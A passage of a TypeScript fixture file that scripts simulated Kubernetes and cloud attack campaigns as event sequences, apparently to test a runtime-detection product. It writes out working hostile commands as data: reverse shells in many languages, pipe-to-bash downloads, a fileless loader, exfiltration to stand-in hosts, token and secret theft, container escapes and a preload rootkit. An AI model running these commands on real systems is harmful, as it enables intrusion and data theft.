/** Attacks by family, each scripted once; variations derive from these scripts. */
import type { JsonObject } from '@tidewaiter/domain';

import type { Campaign, Deed } from './campaign.ts';

const web = 'shop/Deployment/web';
const server = '/usr/bin/node /app/server.js';
const c2 = '203.0.113.77';

/** Life of the rest of the cluster, which must stay outside. */
const ordinary: Deed[] = [
  {
    in: 'web/Deployment/edge',
    node: 'node-2',
    connect: '10.42.1.77:8080',
    by: '/usr/bin/nginx -g daemon off;',
    isOrdinary: true,
  },
  {
    audit: {
      user: 'system:node:node-2',
      verb: 'update',
      what: 'kube-node-lease/leases/node-2',
      from: '10.0.0.12',
      agent: 'kubelet/v1.31.0',
    },
    isOrdinary: true,
  },
];

function around(deeds: Deed[]): Deed[] {
  return [ordinary[0]!, ...deeds, ordinary[1]!];
}

const hostPath = (path: string, image = 'docker.io/library/alpine:3.20'): JsonObject => ({
  spec: {
    containers: [{ name: 'm', image, volumeMounts: [{ name: 'h', mountPath: '/host' }] }],
    volumes: [{ name: 'h', hostPath: { path } }],
  },
});

/** A call with the credentials of an instance from the internet. */
function asInstance(service: string, eventName: string, requestParameters: JsonObject | null = null): Deed {
  return {
    cloud: {
      eventSource: `${service}.amazonaws.com`,
      eventName,
      requestParameters,
      sourceIPAddress: '198.51.100.44',
      userIdentity: {
        type: 'AssumedRole',
        arn: 'arn:aws:sts::1:assumed-role/node/i-0abc1234567890def',
        accessKeyId: 'ASIAEXAMPLEEXAMPLE12',
      },
    },
  };
}

export const families: Campaign[] = [
  {
    family: 'escape through a mount, systemd unit on the node',
    title: ['service planted', 'escape'],
    severity: 'critical',
    workload: 'tools/Pod/fix',
    findings: ['host-persistence'],
    techniques: ['T1611', 'T1543'],
    deeds: around([
      {
        audit: {
          user: 'dev@example.com',
          verb: 'create',
          what: 'tools/pods/fix',
          from: '198.51.100.9',
          object: hostPath('/'),
        },
      },
      {
        in: 'tools/Pod/fix',
        exec: '/bin/sh -c "cp /payload /host/usr/local/sbin/netd; cp /u /host/etc/systemd/system/netd.service"',
      },
      {
        in: 'tools/Pod/fix',
        exec: '/bin/cp /payload /host/usr/local/sbin/netd',
        by: '/bin/sh -c "cp /payload /host/usr/local/sbin/netd; cp /u /host/etc/systemd/system/netd.service"',
      },
      { in: 'tools/Pod/fix', write: '/host/usr/local/sbin/netd', by: '/bin/cp /payload /host/usr/local/sbin/netd' },
      {
        in: 'tools/Pod/fix',
        write: '/host/etc/systemd/system/netd.service',
        by: '/bin/cp /u /host/etc/systemd/system/netd.service',
      },
      { exec: '/usr/local/sbin/netd', after: 4000 },
      { connect: `${c2}:443`, by: '/usr/local/sbin/netd' },
    ]),
  },
  {
    family: 'SSH key planted on the node through a mount',
    title: ['ssh'],
    severity: 'critical',
    workload: 'tools/Pod/fix',
    findings: ['host-persistence'],
    deeds: around([
      {
        audit: {
          user: 'dev@example.com',
          verb: 'create',
          what: 'tools/pods/fix',
          from: '198.51.100.9',
          object: hostPath('/root'),
        },
      },
      { in: 'tools/Pod/fix', exec: '/bin/sh -c "echo ssh-ed25519 AAAA evil >> /host/.ssh/authorized_keys"' },
      {
        in: 'tools/Pod/fix',
        write: '/host/.ssh/authorized_keys',
        by: '/bin/sh -c "echo ssh-ed25519 AAAA evil >> /host/.ssh/authorized_keys"',
      },
    ]),
  },
  {
    family: 'cgroup release_agent escape',
    title: ['escape'],
    severity: 'critical',
    workload: web,
    techniques: ['T1611'],
    deeds: around([
      { in: web, exec: '/bin/sh -c "id; mount -t cgroup -o rdma cgroup /tmp/cg"', by: server },
      {
        in: web,
        exec: '/bin/mount -t cgroup -o rdma cgroup /tmp/cg',
        by: '/bin/sh -c "id; mount -t cgroup -o rdma cgroup /tmp/cg"',
      },
      {
        in: web,
        write: '/tmp/cg/release_agent',
        by: '/bin/sh -c "id; mount -t cgroup -o rdma cgroup /tmp/cg"',
      },
    ]),
  },
  {
    family: 'kubelet API used from a pod',
    title: ['kubelet', 'token'],
    severity: 'high',
    workload: web,
    techniques: ['T1552.007'],
    deeds: around([
      { in: web, exec: '/bin/sh -c "curl -sk https://10.0.0.12:10250/pods"', by: server },
      {
        in: web,
        exec: '/usr/bin/curl -sk https://10.0.0.12:10250/pods',
        by: '/bin/sh -c "curl -sk https://10.0.0.12:10250/pods"',
      },
      { in: web, connect: '10.0.0.12:10250', by: '/usr/bin/curl -sk https://10.0.0.12:10250/pods' },
      {
        in: web,
        exec: '/usr/bin/curl -sk -XPOST https://10.0.0.12:10250/run/kube-system/kube-proxy-x/kube-proxy -d cmd=id',
        by: '/bin/sh -c "curl -sk https://10.0.0.12:10250/pods"',
      },
    ]),
  },
  {
    family: 'etcd read from a pod',
    title: ['etcd', 'kubelet', 'secret'],
    severity: 'high',
    workload: web,
    deeds: around([
      { in: web, exec: '/bin/sh -c "ETCDCTL_API=3 /tmp/etcdctl get /registry/secrets --prefix"', by: server },
      {
        in: web,
        exec: '/tmp/etcdctl --endpoints https://10.0.0.3:2379 get /registry/secrets --prefix',
        by: '/bin/sh -c "ETCDCTL_API=3 /tmp/etcdctl get /registry/secrets --prefix"',
      },
      {
        in: web,
        connect: '10.0.0.3:2379',
        by: '/tmp/etcdctl --endpoints https://10.0.0.3:2379 get /registry/secrets --prefix',
      },
    ]),
  },
  {
    family: 'service account token stolen, used from the internet hours later',
    title: ['token'],
    severity: 'critical',
    workload: web,
    findings: ['token-theft', 'lateral-movement'],
    techniques: ['T1528', 'T1550.001'],
    policy: { sa_usual_sources: { 'shop:web-sa': ['10.42.0.0/16'] }, sa_usual_user_agents: { 'shop:web-sa': ['web'] } },
    deeds: around([
      { in: web, exec: '/bin/sh -c "cat /var/run/secrets/kubernetes.io/serviceaccount/token"', by: server },
      {
        in: web,
        read: '/run/secrets/kubernetes.io/serviceaccount/..2026_05_04/token',
        by: '/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token',
      },
      {
        audit: {
          user: 'system:serviceaccount:shop:web-sa',
          verb: 'list',
          what: 'shop/secrets',
          from: '198.51.100.44',
          agent: 'curl/8.5',
        },
        after: 5 * 3600,
      },
      {
        audit: {
          user: 'system:serviceaccount:shop:web-sa',
          verb: 'create',
          what: 'shop/pods/x1',
          from: '198.51.100.44',
          agent: 'curl/8.5',
          object: hostPath('/'),
        },
      },
      { in: 'shop/Pod/x1', exec: '/bin/sh -c "chroot /host sh -c id"', after: 20 },
    ]),
  },
  {
    family: 'stolen identity binds cluster-admin and adds a webhook',
    title: ['token', 'admin'],
    severity: 'critical',
    workload: web,
    findings: ['privilege-grant'],
    techniques: ['T1098.006'],
    policy: { sa_usual_sources: { 'shop:web-sa': ['10.42.0.0/16'] }, sa_usual_user_agents: { 'shop:web-sa': ['web'] } },
    deeds: around([
      {
        in: web,
        read: '/var/run/secrets/kubernetes.io/serviceaccount/token',
        by: '/bin/cat /var/run/secrets/kubernetes.io/serviceaccount/token',
      },
      {
        audit: {
          user: 'system:serviceaccount:shop:web-sa',
          verb: 'create',
          what: '/clusterrolebindings/x',
          from: '198.51.100.44',
          agent: 'python-requests/2.31',
          object: {
            roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
            subjects: [{ kind: 'ServiceAccount', name: 'web-sa', namespace: 'shop' }],
          },
        },
        isDecisive: true,
        after: 600,
      },
      {
        audit: {
          user: 'system:serviceaccount:shop:web-sa',
          verb: 'create',
          what: '/mutatingwebhookconfigurations/audit-helper',
          from: '198.51.100.44',
          agent: 'python-requests/2.31',
          object: { webhooks: [{ name: 'a.example.net', clientConfig: { url: 'https://a.example.net/m' } }] },
        },
      },
    ]),
  },
  {
    family: 'worm over three workloads',
    title: ['miner', 'dropped', 'drop', 'worm', 'command and control'],
    severity: 'critical',
    workload: 'db/StatefulSet/redis-a',
    findings: ['drift'],
    deeds: around(
      ['db/StatefulSet/redis-a', 'cache/StatefulSet/redis-b', 'jobs/Deployment/redis-c'].flatMap((each): Deed[] => [
        {
          in: each,
          exec: '/bin/sh -c "curl -s http://files.example.net/w/p2p -o /tmp/.p2p; chmod +x /tmp/.p2p; /tmp/.p2p"',
          by: '/usr/local/bin/redis-server *:6379',
          after: 60,
        },
        {
          in: each,
          exec: '/usr/bin/curl -s http://files.example.net/w/p2p -o /tmp/.p2p',
          by: '/bin/sh -c "curl -s http://files.example.net/w/p2p -o /tmp/.p2p; chmod +x /tmp/.p2p; /tmp/.p2p"',
        },
        { in: each, write: '/tmp/.p2p', by: '/usr/bin/curl -s http://files.example.net/w/p2p -o /tmp/.p2p' },
        {
          in: each,
          exec: '/tmp/.p2p',
          by: '/bin/sh -c "curl -s http://files.example.net/w/p2p -o /tmp/.p2p; chmod +x /tmp/.p2p; /tmp/.p2p"',
        },
        { in: each, connect: '10.42.3.8:6379', by: '/tmp/.p2p' },
      ]),
    ),
  },
  {
    family: 'kernel module from a container',
    title: ['module', 'escape'],
    severity: 'critical',
    workload: 'ops/Pod/tool',
    techniques: ['T1547.006'],
    deeds: around([
      { in: 'ops/Pod/tool', exec: '/bin/bash', isSession: true },
      { in: 'ops/Pod/tool', exec: '/sbin/insmod /tmp/.rk/diamorphine.ko', by: '/bin/bash', isDecisive: true },
      {
        in: 'ops/Pod/tool',
        hook: ['__x64_sys_finit_module', '/tmp/.rk/diamorphine.ko'],
        by: '/sbin/insmod /tmp/.rk/diamorphine.ko',
      },
    ]),
  },
  {
    family: 'unsigned kernel module on the node',
    title: ['module'],
    severity: 'critical',
    workload: null,
    techniques: ['T1547.006'],
    deeds: around([
      { exec: '/bin/bash -c "insmod /root/.cache/x.ko"', by: '/usr/sbin/sshd -D' },
      { exec: '/sbin/insmod /root/.cache/x.ko', by: '/bin/bash -c "insmod /root/.cache/x.ko"', isDecisive: true },
    ]),
  },
  {
    family: 'memory of a runner read, secrets posted (tj-actions)',
    title: ['runner', 'memory'],
    severity: 'critical',
    workload: 'ci/Pod/runner-abcde',
    findings: ['process-memory'],
    policy: { builder_namespaces: ['ci'] },
    deeds: around([
      {
        in: 'ci/Pod/runner-abcde',
        exec: '/bin/bash -e /home/runner/_work/_temp/x.sh',
        by: '/home/runner/bin/Runner.Worker spawnclient 110 113',
        isUsual: true,
      },
      {
        in: 'ci/Pod/runner-abcde',
        exec: '/usr/bin/python3 /tmp/memdump.py',
        by: '/bin/bash -e /home/runner/_work/_temp/x.sh',
      },
      { in: 'ci/Pod/runner-abcde', read: '/proc/1812/mem', by: '/usr/bin/python3 /tmp/memdump.py', isDecisive: true },
      {
        in: 'ci/Pod/runner-abcde',
        exec: '/usr/bin/curl -s -X POST --data-binary @/tmp/o http://203.0.113.99/u',
        by: '/bin/bash -e /home/runner/_work/_temp/x.sh',
      },
    ]),
  },
  {
    family: 'source swapped during the build, image runs weeks later',
    title: ['build'],
    severity: 'critical',
    workload: 'pay/Deployment/ledger',
    findings: ['build-tamper'],
    techniques: ['T1195.002'],
    policy: { builder_namespaces: ['ci'] },
    images: { 'pay/Deployment/ledger': { provenance: { present: true, build_id: 'build-ledger-77' } } },
    deeds: around([
      { in: 'ci/Job/builder', pod: 'build-ledger-77-q9x2v', exec: '/usr/bin/make all', isUsual: true },
      { in: 'ci/Job/builder', pod: 'build-ledger-77-q9x2v', exec: '/dev/shm/.w/ccd --watch', by: '/usr/bin/make all' },
      {
        in: 'ci/Job/builder',
        pod: 'build-ledger-77-q9x2v',
        write: '/src/pay/ledger.c',
        by: '/dev/shm/.w/ccd --watch',
        isDecisive: true,
      },
      { in: 'pay/Deployment/ledger', exec: '/tmp/.upd -d', by: '/app/ledger', after: 20 * 86_400 },
      { in: 'pay/Deployment/ledger', connect: `${c2}:443`, by: '/tmp/.upd -d' },
    ]),
  },
  {
    family: 'malicious npm package at run time',
    title: ['colors-next'],
    severity: 'critical',
    workload: web,
    findings: ['in-use-malware'],
    images: {
      [web]: {
        files: { '/app/node_modules/colors-next/index.js': { package: 'colors-next' } },
        vulnerabilities: [{ id: 'GHSA-1111-2222-3333', package: 'colors-next', severity: 'Critical', malware: true }],
      },
    },
    deeds: around([
      { in: web, exec: server },
      { in: web, read: '/app/node_modules/colors-next/index.js', by: server, isDecisive: true },
      { in: web, read: '/root/.config/solana/id.json', by: server },
      { in: web, connect: `${c2}:443`, by: server },
    ]),
  },
  {
    family: 'malicious Python package at build time',
    title: ['install', 'package', 'exfil'],
    severity: 'high',
    workload: 'ci/Job/py',
    policy: { builder_namespaces: ['ci'] },
    deeds: around([
      { in: 'ci/Job/py', exec: '/usr/bin/python3 /usr/bin/pip install reqeusts', isUsual: true },
      {
        in: 'ci/Job/py',
        exec: '/usr/bin/python3 -c "exec(compile(open(\'setup.py\').read()))" egg_info',
        by: '/usr/bin/python3 /usr/bin/pip install reqeusts',
        cwd: '/tmp/pip-install-x1/reqeusts',
      },
      {
        in: 'ci/Job/py',
        read: '/root/.aws/credentials',
        by: '/usr/bin/python3 -c "exec(compile(open(\'setup.py\').read()))" egg_info',
        cwd: '/tmp/pip-install-x1/reqeusts',
      },
      {
        in: 'ci/Job/py',
        connect: `${c2}:443`,
        by: '/usr/bin/python3 -c "exec(compile(open(\'setup.py\').read()))" egg_info',
        cwd: '/tmp/pip-install-x1/reqeusts',
        isDecisive: true,
      },
    ]),
  },
  {
    family: 'web shell in PHP',
    title: ['web shell', 'webshell'],
    severity: 'high',
    workload: 'cms/Deployment/wordpress',
    deeds: around([
      {
        in: 'cms/Deployment/wordpress',
        write: '/var/www/html/wp-content/uploads/2026/a.php',
        by: '/usr/sbin/apache2 -DFOREGROUND',
        isDecisive: true,
      },
      {
        in: 'cms/Deployment/wordpress',
        exec: '/bin/sh -c "id; uname -a"',
        by: '/usr/sbin/apache2 -DFOREGROUND',
        after: 30,
      },
      {
        in: 'cms/Deployment/wordpress',
        read: '/var/www/html/wp-config.php',
        by: '/bin/cat /var/www/html/wp-config.php',
      },
    ]),
  },
  {
    family: 'deserialization in Java, reverse shell',
    title: ['reverse shell'],
    severity: 'critical',
    workload: 'shop/Deployment/search',
    techniques: ['T1190'],
    deeds: around([
      {
        in: 'shop/Deployment/search',
        exec: '/bin/bash -c "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1"',
        by: '/usr/bin/java -jar /app/search.jar',
        isDecisive: true,
      },
      {
        in: 'shop/Deployment/search',
        connect: `${c2}:4444`,
        by: '/bin/bash -c "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1"',
      },
      {
        in: 'shop/Deployment/search',
        exec: '/usr/bin/id',
        by: '/bin/bash -c "bash -i >& /dev/tcp/203.0.113.77/4444 0>&1"',
      },
    ]),
  },
  ...(
    [
      [
        'python',
        `/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("${c2}",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`,
      ],
      [
        'perl',
        `/usr/bin/perl -e 'use Socket;$i="${c2}";socket(S,PF_INET,SOCK_STREAM,0);connect(S,sockaddr_in(4444,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");'`,
      ],
      [
        'ruby',
        `/usr/bin/ruby -rsocket -e 'exit if fork;c=TCPSocket.new("${c2}","4444");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`,
      ],
      ['php', `/usr/bin/php -r '$s=fsockopen("${c2}",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`],
      ['node', `/usr/bin/node -e 'require("child_process").exec("sh"),require("net").connect(4444,"${c2}")'`],
      ['netcat', `/bin/nc -e /bin/sh ${c2} 4444`],
      ['mkfifo', `/bin/sh -c "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ${c2} 4444 >/tmp/f"`],
      ['socat', `/usr/bin/socat exec:/bin/sh,pty,stderr,setsid tcp:${c2}:4444`],
      [
        'openssl',
        `/bin/sh -c "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect ${c2}:4444 > /tmp/s"`,
      ],
      [
        'awk',
        `/usr/bin/awk 'BEGIN {s = "/inet/tcp/0/${c2}/4444"; while(1) {printf "> " |& s; s |& getline c; while (c |& getline) print $0 |& s}}'`,
      ],
    ] as const
  ).map(([language, command]): Campaign => ({
    family: `reverse shell in ${language}`,
    title: ['reverse shell'],
    severity: 'critical',
    workload: web,
    deeds: around([
      { in: web, exec: '/bin/sh -c "sh /tmp/r"', by: server },
      { in: web, exec: command, by: '/bin/sh -c "sh /tmp/r"', isDecisive: true },
      { in: web, connect: `${c2}:4444`, by: command },
    ]),
  })),
  {
    family: 'metadata credentials through SSRF, role used from outside',
    title: ['cloud', 'credential'],
    severity: 'high',
    workload: web,
    techniques: ['T1552.005', 'T1550.001'],
    policy: { key_usual_source: { 'web-irsa': ['203.0.113.10/32'] } },
    deeds: around([
      {
        in: web,
        exec: '/usr/bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-irsa',
        by: server,
        isDecisive: true,
      },
      {
        in: web,
        connect: '169.254.169.254:80',
        by: '/usr/bin/curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-irsa',
      },
      {
        cloud: {
          eventName: 'ListBuckets',
          sourceIPAddress: '198.51.100.44',
          userIdentity: {
            type: 'AssumedRole',
            arn: 'arn:aws:sts::1:assumed-role/web-irsa/i-1',
            accessKeyId: 'ASIAEXAMPLEEXAMPLE01',
          },
        },
        after: 1800,
      },
      {
        cloud: {
          eventName: 'GetObject',
          sourceIPAddress: '198.51.100.44',
          userIdentity: {
            type: 'AssumedRole',
            arn: 'arn:aws:sts::1:assumed-role/web-irsa/i-1',
            accessKeyId: 'ASIAEXAMPLEEXAMPLE01',
          },
        },
      },
    ]),
  },
  {
    family: 'database dumped and sent',
    title: ['exfil', 'database', 'dump'],
    severity: 'high',
    workload: 'shop/StatefulSet/db',
    deeds: around([
      {
        in: 'shop/StatefulSet/db',
        exec: '/bin/sh -c "pg_dump shop | gzip > /tmp/.d.gz; curl -T /tmp/.d.gz https://files.example.net/u"',
        by: '/usr/lib/postgresql/16/bin/postgres -D /data',
      },
      {
        in: 'shop/StatefulSet/db',
        exec: '/usr/bin/pg_dump shop',
        by: '/bin/sh -c "pg_dump shop | gzip > /tmp/.d.gz; curl -T /tmp/.d.gz https://files.example.net/u"',
      },
      {
        in: 'shop/StatefulSet/db',
        exec: '/usr/bin/curl -T /tmp/.d.gz https://files.example.net/u',
        by: '/bin/sh -c "pg_dump shop | gzip > /tmp/.d.gz; curl -T /tmp/.d.gz https://files.example.net/u"',
      },
      {
        in: 'shop/StatefulSet/db',
        connect: `${c2}:443`,
        by: '/usr/bin/curl -T /tmp/.d.gz https://files.example.net/u',
      },
      {
        in: 'shop/StatefulSet/db',
        send: [`${c2}:443`, 900_000_000],
        by: '/usr/bin/curl -T /tmp/.d.gz https://files.example.net/u',
      },
    ]),
  },
  {
    family: 'COPY FROM PROGRAM in PostgreSQL',
    title: ['database', 'download', 'dropped', 'exploit', 'command and control', 'miner'],
    severity: 'critical',
    workload: 'shop/StatefulSet/db',
    deeds: around([
      {
        in: 'shop/StatefulSet/db',
        exec: '/bin/sh -c "wget -q -O - http://203.0.113.77/pg.sh | bash"',
        by: '/usr/lib/postgresql/16/bin/postgres -D /data',
        isDecisive: true,
      },
      {
        in: 'shop/StatefulSet/db',
        exec: '/usr/bin/wget -q -O - http://203.0.113.77/pg.sh',
        by: '/bin/sh -c "wget -q -O - http://203.0.113.77/pg.sh | bash"',
      },
      {
        in: 'shop/StatefulSet/db',
        exec: '/tmp/kdevtmpfsi',
        by: '/bin/sh -c "wget -q -O - http://203.0.113.77/pg.sh | bash"',
        after: 10,
      },
    ]),
  },
  {
    family: 'ransomware of a volume',
    title: ['encrypt', 'destruction', 'ransom'],
    severity: 'high',
    workload: 'nas/StatefulSet/files',
    deeds: around([
      { in: 'nas/StatefulSet/files', exec: '/tmp/.enc /data', by: '/usr/bin/python3 /app/serve.py' },
      ...Array.from({ length: 60 }, (_, n): Deed => ({
        in: 'nas/StatefulSet/files',
        write: `/data/doc${n}.pdf.locked`,
        by: '/tmp/.enc /data',
        after: 0.05,
      })),
      { in: 'nas/StatefulSet/files', write: '/data/README_TO_RESTORE.txt', by: '/tmp/.enc /data' },
    ]),
  },
  {
    family: 'miner by configuration file and port',
    title: ['miner'],
    severity: 'critical',
    workload: web,
    techniques: ['T1496.001'],
    deeds: around([
      { in: web, exec: '/bin/sh -c "cd /tmp && ./systemd-helper -c c.json"', by: server },
      {
        in: web,
        exec: '/tmp/systemd-helper -o pool.example.net:3333 -u 4AAA --donate-level 1',
        by: '/bin/sh -c "cd /tmp && ./systemd-helper -c c.json"',
        isDecisive: true,
      },
      { in: web, connect: `${c2}:3333`, by: '/tmp/systemd-helper -o pool.example.net:3333 -u 4AAA --donate-level 1' },
    ]),
  },
  {
    family: 'proxyjacking',
    title: ['prox'],
    severity: 'high',
    workload: web,
    techniques: ['T1496.002'],
    deeds: around([
      {
        in: web,
        exec: '/bin/sh -c "curl -s http://203.0.113.77/p -o /tmp/psclient; /tmp/psclient --cid=123"',
        by: server,
      },
      {
        in: web,
        exec: '/tmp/psclient --cid=123',
        by: '/bin/sh -c "curl -s http://203.0.113.77/p -o /tmp/psclient; /tmp/psclient --cid=123"',
      },
      { in: web, connect: `${c2}:443`, by: '/tmp/psclient --cid=123' },
    ]),
  },
  {
    family: 'fileless payload with a masqueraded name',
    title: ['fileless'],
    severity: 'critical',
    workload: 'ml/Deployment/notebook',
    findings: ['fileless', 'masquerade'],
    techniques: ['T1620', 'T1036.005'],
    deeds: around([
      {
        in: 'ml/Deployment/notebook',
        exec: `/usr/bin/python3 -c 'import os,urllib.request;f=os.memfd_create("",1);os.write(f,urllib.request.urlopen("http://203.0.113.77/k").read());os.execve("/proc/self/fd/%d"%f,["[kworker/u8:2]"],{})'`,
        by: '/usr/bin/python3 -m ipykernel_launcher -f k.json',
      },
      {
        in: 'ml/Deployment/notebook',
        exec: '/proc/self/fd/5',
        by: '/usr/bin/python3 -m ipykernel_launcher -f k.json',
      },
      { in: 'ml/Deployment/notebook', connect: `${c2}:443`, by: '/proc/self/fd/5' },
    ]),
  },
  {
    family: 'process injection with ptrace',
    title: ['memory', 'inject', 'dropped', 'process'],
    severity: 'high',
    workload: web,
    techniques: ['T1055.008'],
    deeds: around([
      { in: web, exec: '/tmp/.inj 1', by: server },
      { in: web, hook: ['__x64_sys_ptrace'], by: '/tmp/.inj 1' },
      { in: web, hook: ['__x64_sys_process_vm_writev'], by: '/tmp/.inj 1' },
    ]),
  },
  {
    family: 'LD_PRELOAD rootkit',
    title: ['loader', 'preload', 'persistence', 'dropped', 'rootkit'],
    severity: 'critical',
    workload: web,
    techniques: ['T1574.006'],
    deeds: around([
      {
        in: web,
        exec: '/bin/sh -c "curl -s http://203.0.113.77/l.so -o /usr/lib/libnss_x.so; echo /usr/lib/libnss_x.so > /etc/ld.so.preload"',
        by: server,
      },
      {
        in: web,
        write: '/usr/lib/libnss_x.so',
        by: '/usr/bin/curl -s http://203.0.113.77/l.so -o /usr/lib/libnss_x.so',
      },
      {
        in: web,
        write: '/etc/ld.so.preload',
        by: '/bin/sh -c "curl -s http://203.0.113.77/l.so -o /usr/lib/libnss_x.so; echo /usr/lib/libnss_x.so > /etc/ld.so.preload"',
      },
      { in: web, load: '/usr/lib/libnss_x.so', by: server },
    ]),
  },
  {
    family: 'traces wiped after a dropped tool',
    title: ['dropped', 'evidence', 'exploit', 'command and control'],
    severity: 'critical',
    workload: web,
    techniques: ['T1070'],
    deeds: around([
      { in: web, exec: '/bin/sh -c "wget http://203.0.113.77/a -O /tmp/a && /tmp/a"', by: server },
      { in: web, exec: '/tmp/a', by: '/bin/sh -c "wget http://203.0.113.77/a -O /tmp/a && /tmp/a"' },
      {
        in: web,
        exec: '/bin/rm -f /var/log/nginx/access.log /root/.bash_history',
        by: '/bin/sh -c "wget http://203.0.113.77/a -O /tmp/a && /tmp/a"',
      },
      {
        in: web,
        exec: '/bin/sh -c "history -c; unset HISTFILE"',
        by: '/bin/sh -c "wget http://203.0.113.77/a -O /tmp/a && /tmp/a"',
      },
    ]),
  },
  {
    family: 'data staged and posted to a chat bot',
    title: ['exfil'],
    severity: 'high',
    workload: web,
    deeds: around([
      { in: web, exec: '/bin/sh -c "tar czf /tmp/.a.tgz /app/.env /root/.ssh"', by: server },
      {
        in: web,
        exec: '/bin/tar czf /tmp/.a.tgz /app/.env /root/.ssh',
        by: '/bin/sh -c "tar czf /tmp/.a.tgz /app/.env /root/.ssh"',
      },
      {
        in: web,
        exec: '/usr/bin/curl -F document=@/tmp/.a.tgz https://api.telegram.org/bot123:abc/sendDocument?chat_id=1',
        by: '/bin/sh -c "tar czf /tmp/.a.tgz /app/.env /root/.ssh"',
      },
      {
        in: web,
        connect: `${c2}:443`,
        by: '/usr/bin/curl -F document=@/tmp/.a.tgz https://api.telegram.org/bot123:abc/sendDocument?chat_id=1',
      },
    ]),
  },
  {
    family: 'runtime socket used to start a privileged container',
    title: ['escape', 'socket', 'runtime'],
    severity: 'critical',
    workload: web,
    techniques: ['T1611', 'T1610'],
    deeds: around([
      { in: web, exec: '/bin/sh -c "curl --unix-socket /var/run/docker.sock http://x/containers/json"', by: server },
      {
        in: web,
        exec: '/usr/bin/curl --unix-socket /var/run/docker.sock http://x/containers/json',
        by: '/bin/sh -c "curl --unix-socket /var/run/docker.sock http://x/containers/json"',
      },
      {
        in: web,
        exec: '/tmp/docker -H unix:///var/run/docker.sock run --privileged -v /:/host alpine chroot /host',
        by: '/bin/sh -c "curl --unix-socket /var/run/docker.sock http://x/containers/json"',
      },
    ]),
  },
  {
    family: 'workflow submitted by a stolen identity mines',
    title: ['miner'],
    severity: 'critical',
    workload: 'wf/Pod/job-x1',
    policy: {
      sa_usual_sources: { 'wf:argo-sa': ['10.42.0.0/16'] },
      sa_usual_user_agents: { 'wf:argo-sa': ['argo-server'] },
    },
    deeds: around([
      {
        audit: {
          user: 'system:serviceaccount:wf:argo-sa',
          verb: 'create',
          what: 'wf/workflows/job-x1',
          from: '198.51.100.44',
          agent: 'curl/8.5',
          object: { spec: { entrypoint: 'm', templates: [{ name: 'm', container: { image: 'docker.io/evil/m:1' } }] } },
        },
      },
      {
        audit: {
          user: 'system:serviceaccount:wf:argo-controller',
          verb: 'create',
          what: 'wf/pods/job-x1',
          from: '10.42.0.9',
          agent: 'workflow-controller/3.5',
          object: { spec: { containers: [{ name: 'main', image: 'docker.io/evil/m:1' }] } },
        },
        after: 5,
      },
      { in: 'wf/Pod/job-x1', exec: '/usr/bin/m -o stratum+tcp://pool.example.net:3333 -u w' },
      { in: 'wf/Pod/job-x1', connect: `${c2}:3333`, by: '/usr/bin/m -o stratum+tcp://pool.example.net:3333 -u w' },
    ]),
  },
  {
    family: 'impersonation by an application identity',
    title: ['impersonat', 'token', 'identity', 'administrator'],
    severity: 'high',
    workload: null,
    deeds: around([
      {
        audit: {
          user: 'system:serviceaccount:shop:web-sa',
          verb: 'impersonate',
          what: '/users/admin',
          from: '198.51.100.44',
          agent: 'kubectl/v1.31.0',
        },
        isDecisive: true,
      },
      {
        audit: {
          user: 'system:serviceaccount:shop:web-sa',
          verb: 'list',
          what: 'kube-system/secrets',
          from: '198.51.100.44',
          agent: 'kubectl/v1.31.0',
        },
      },
    ]),
  },
  {
    family: 'lateral movement over SSH with a key from the container',
    title: ['ssh', 'lateral', 'credential'],
    severity: 'high',
    workload: web,
    deeds: around([
      { in: web, exec: '/bin/sh -c "cat /root/.ssh/id_rsa; ssh -i /root/.ssh/id_rsa root@10.0.0.12 id"', by: server },
      { in: web, read: '/root/.ssh/id_rsa', by: '/bin/cat /root/.ssh/id_rsa' },
      {
        in: web,
        exec: '/usr/bin/ssh -o StrictHostKeyChecking=no -i /root/.ssh/id_rsa root@10.0.0.12 id',
        by: '/bin/sh -c "cat /root/.ssh/id_rsa; ssh -i /root/.ssh/id_rsa root@10.0.0.12 id"',
      },
      {
        in: web,
        connect: '10.0.0.12:22',
        by: '/usr/bin/ssh -o StrictHostKeyChecking=no -i /root/.ssh/id_rsa root@10.0.0.12 id',
      },
    ]),
  },
  {
    family: 'Falco alone reports a dropped program that connects',
    title: ['drop', 'command and control', 'c2'],
    severity: 'critical',
    workload: web,
    deeds: around([
      {
        in: web,
        falco: ['Drop and execute new binary in container', 'Critical'],
        exec: '/tmp/x',
        by: server,
        isDecisive: true,
      },
      { in: web, falco: ['Outbound connection to C2 server', 'Warning'], connect: `${c2}:443`, by: '/tmp/x' },
      { in: web, falco: ['Read sensitive file untrusted', 'Warning'], read: '/etc/shadow', by: '/tmp/x' },
    ]),
  },
  {
    family: 'escape by nsenter from a privileged session',
    title: ['escape'],
    severity: 'critical',
    workload: 'ops/Pod/dbg',
    techniques: ['T1611', 'T1610'],
    deeds: around([
      {
        audit: {
          user: 'mallory@example.com',
          verb: 'create',
          what: 'ops/pods/dbg',
          from: '198.51.100.9',
          object: {
            spec: {
              hostPID: true,
              containers: [
                { name: 'c', image: 'docker.io/library/alpine:3.20', securityContext: { privileged: true } },
              ],
            },
          },
        },
      },
      { audit: { user: 'mallory@example.com', verb: 'create', what: 'ops/pods.exec/dbg', from: '198.51.100.9' } },
      { in: 'ops/Pod/dbg', exec: '/bin/sh', isSession: true },
      { in: 'ops/Pod/dbg', exec: '/usr/bin/nsenter -t 1 -m -u -i -n -p -- bash', by: '/bin/sh' },
    ]),
  },
  {
    family: 'core_pattern escape, program runs on the node',
    title: ['escape'],
    severity: 'critical',
    workload: web,
    deeds: around([
      { in: web, exec: '/bin/sh -c "echo |/var/lib/containerd/x > /proc/sys/kernel/core_pattern"', by: server },
      {
        in: web,
        write: '/proc/sys/kernel/core_pattern',
        by: '/bin/sh -c "echo |/var/lib/containerd/x > /proc/sys/kernel/core_pattern"',
      },
